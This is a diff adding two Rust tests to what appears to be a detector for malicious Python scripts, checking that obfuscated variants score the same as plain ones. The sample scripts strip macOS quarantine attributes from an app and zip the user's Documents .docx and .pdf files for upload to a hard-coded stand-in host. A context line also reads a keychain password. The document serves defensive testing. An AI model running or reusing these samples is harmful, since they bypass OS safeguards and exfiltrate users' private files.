@@ -690,3 +690,58 @@ print(_run(["security", "find-generic-password", "-s", "myapp", "-w"]).stdout)
 "#;
     assert!(run(own).verdict < Verdict::High);
 }
+
+/// `create_subprocess_exec(*cmd)` in `async def run(*cmd)` runs the words
+/// each caller gives the helper.
+#[test]
+fn async_helper_spreading_its_arguments() {
+    let plain = r#"import asyncio
+async def main():
+    proc = await asyncio.create_subprocess_exec("xattr", "-dr", "com.apple.quarantine", "/Applications/X.app")
+    await proc.wait()
+asyncio.run(main())
+"#;
+    let helper = r#"import asyncio
+async def run(*cmd):
+    proc = await asyncio.create_subprocess_exec(*cmd)
+    return await proc.wait()
+async def main():
+    await run("xattr", "-dr", "com.apple." + "quarantine", "/Applications/X.app")
+asyncio.run(main())
+"#;
+    assert_same(plain, helper);
+    // Control: the same helper listing the attributes.
+    let listing = r#"import asyncio
+async def run(*cmd):
+    proc = await asyncio.create_subprocess_exec(*cmd)
+    return await proc.wait()
+asyncio.run(run("xattr", "-l", "/Applications/X.app"))
+"#;
+    assert!(run(listing).verdict < Verdict::High);
+}
+
+/// A URL written as an f-string whose head names the host (`f"{PORTAL}/
+/// {report_id}"`) goes to that host, however the rest is filled.
+#[test]
+fn upload_url_with_a_templated_tail() {
+    let plain = r#"import io, zipfile, urllib.request
+from pathlib import Path
+buf = io.BytesIO()
+with zipfile.ZipFile(buf, "w") as z:
+    for f in (Path.home() / "Documents").rglob("*"):
+        if f.suffix in (".docx", ".pdf"):
+            z.write(f)
+U = "https://" + "upload.example" + ".com/c"
+urllib.request.urlopen(urllib.request.Request(U, data=buf.getvalue(), method="PUT"))
+"#;
+    let templated = plain.replace(
+        "Request(U, data",
+        "Request(f\"{U}/{len(buf.getvalue())}\", data",
+    );
+    assert_same(plain, &templated);
+    // Control: the same archive sent where the user says (a backup to a
+    // server given on the command line): the head names no host.
+    let chosen = plain.replace("Request(U, data", "Request(f\"{sys.argv[1]}/1\", data");
+    let chosen = format!("import sys\n{chosen}");
+    assert!(!rules(&run(&chosen)).contains(&"MB958"));
+}
